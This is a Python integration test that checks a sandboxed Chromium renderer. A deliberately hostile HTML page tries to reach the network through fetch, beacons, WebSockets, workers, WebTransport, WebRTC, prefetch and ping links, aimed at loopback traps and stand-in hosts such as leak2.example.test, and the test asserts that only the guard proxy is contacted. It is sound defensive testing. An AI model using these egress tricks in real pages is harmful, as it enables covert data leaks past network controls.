"""A hostile page in a real Chromium: every way out that it tries ends at the guard."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import pytest

from connectors.sandbox.server import Sandbox
from tests.integration.test_browser.site import CHROMIUM, SAID, Site, settings
from worker.clock import SystemClock
from worker.evidence.render.judge import State
from worker.evidence.render.pool import Ask, Renderer

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]


ESCAPES = """<!doctype html><p>made up</p>
<link rel=dns-prefetch href=http://leak1.example.test><link rel=preconnect href=http://@tcp>
<link rel=prefetch href=http://@tcp/a><link rel=stylesheet href=http://@tcp/b><img src=http://@tcp/c>
<iframe src=http://@tcp/d></iframe><video src=http://@tcp/e></video><object data=http://@tcp/f></object>
<img src=http://leak2.example.test/g><img src=https://leak3.example.test/h>
<a id=a ping=http://@tcp/i href=#>x</a>
<script type=speculationrules>{"prefetch":[{"urls":["http://@tcp/j"]}]}</script>
<script>
const quiet = (work) => { try { const it = work(); if (it && it.catch) it.catch(() => 0) } catch (error) {} };
quiet(() => fetch('http://@tcp/k', {mode: 'no-cors'}));
quiet(() => fetch('http://localhost:@port/k2', {mode: 'no-cors'}));
quiet(() => fetch('http://[::1]:@port/k3', {mode: 'no-cors'}));
quiet(() => navigator.sendBeacon('http://@tcp/l', 'x'));
quiet(() => new WebSocket('ws://@tcp/m'));
quiet(() => new EventSource('http://@tcp/n'));
quiet(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://@tcp/o', {mode: 'no-cors'})"]))));
quiet(() => navigator.serviceWorker.register('/sw.js'));
quiet(() => new WebTransport('https://127.0.0.1:@udp/p').ready);
quiet(() => fetch('http://@box/_sandbox/hang?seconds=2', {mode: 'no-cors'}));  // keeps the page open
quiet(() => a.click());
quiet(() => open('http://@tcp/q'));
quiet(() => {
  const line = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:@udp'},
    {urls: 'turn:127.0.0.1:@port?transport=tcp', username: 'x', credential: 'y'}]});
  line.createDataChannel('x');
  return line.createOffer().then((offer) => line.setLocalDescription(offer));
});
document.body.append('every way was tried');
</script>"""


@dataclass
class Trap:
    """What listens on loopback and must hear nothing."""

    tcp: int
    udp: int
    heard: list[str]


@contextmanager
def trap() -> Iterator[Trap]:
    """A TCP and a UDP listener."""
    with (
        closing(socket.create_server(("127.0.0.1", 0))) as tcp,
        closing(socket.socket(type=socket.SOCK_DGRAM)) as udp,
    ):
        udp.bind(("127.0.0.1", 0))
        tcp.settimeout(0.05)
        udp.settimeout(0.05)
        made = Trap(tcp.getsockname()[1], udp.getsockname()[1], [])
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                with suppress(TimeoutError):
                    made.heard.append(f"TCP from {tcp.accept()[1]}")
                with suppress(TimeoutError):
                    made.heard.append(f"UDP {udp.recv(2048)[:20]!r}")

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        try:
            yield made
        finally:
            over.set()
            thread.join(5)


def logged(log: Path) -> tuple[set[str], set[str], set[str]]:
    """From Chromium's network stack: all that can happen, what did, and every address it connected to."""
    first, *lines = log.read_text(encoding="utf-8").splitlines()
    numbers = json.loads(first.rstrip(",") + "}")["constants"]["logEventTypes"]
    names = {number: name for name, number in numbers.items()}
    happened, connected = set(), set()
    for line in lines:
        with suppress(ValueError):  # the list's own brackets, and a last line that was cut
            event = json.loads(line.rstrip(","))
            happened.add(names[event["type"]])
            if names[event["type"]] == "TCP_CONNECT_ATTEMPT" and "address" in event.get("params", {}):
                connected.add(event["params"]["address"])
    return set(numbers), happened, connected


def test_a_page_reaches_nothing_but_the_guard(box: Sandbox, site: Site, tmp_path: Path) -> None:
    """Whatever a hostile page tries, Chromium connects to the guard alone, and no trap hears a thing."""
    log = tmp_path / "net.json"
    logging = tmp_path / "chromium"
    logging.write_text(
        f'#!/bin/sh\nexec {CHROMIUM} "$@" --log-net-log={log} --net-log-capture-mode=Everything\n'
    )
    logging.chmod(0o755)
    with (
        trap() as ears,
        Renderer(settings([box.web_url, site.address], chromium=logging), SystemClock()) as fresh,
    ):
        places = {"@tcp": f"127.0.0.1:{ears.tcp}", "@udp": str(ears.udp), "@port": str(ears.tcp)}
        html = ESCAPES.replace("@box", box.web_url.removeprefix("http://"))
        for name, place in places.items():
            html = html.replace(name, place)
        seen = fresh.render(Ask(site.put(html), SAID))
        guard = fresh._guard.port
        assert ears.heard == []
    assert seen.seen.state is State.NOT_SHOWN
    assert "every way was tried" in seen.files["page.txt"].decode()
    asked_for = {(each["host"], each["port"]) for each in seen.facts["guard"]["refused"]}
    assert {("127.0.0.1", ears.tcp), ("leak2.example.test", 80), ("leak3.example.test", 443)} <= asked_for
    names, happened, connected = logged(log)
    assert "TCP_CONNECT_ATTEMPT" in happened
    sent = {"UDP_BYTES_SENT", "DNS_TRANSACTION", "DNS_TRANSACTION_QUERY", "HOST_RESOLVER_SYSTEM_TASK"}
    assert sent <= names
    assert not happened & sent
    assert not [each for each in happened if each.startswith(("QUIC_SESSION_PACKET", "QUIC_SESSION_ATTEMPT"))]
    assert connected == {f"127.0.0.1:{guard}"}
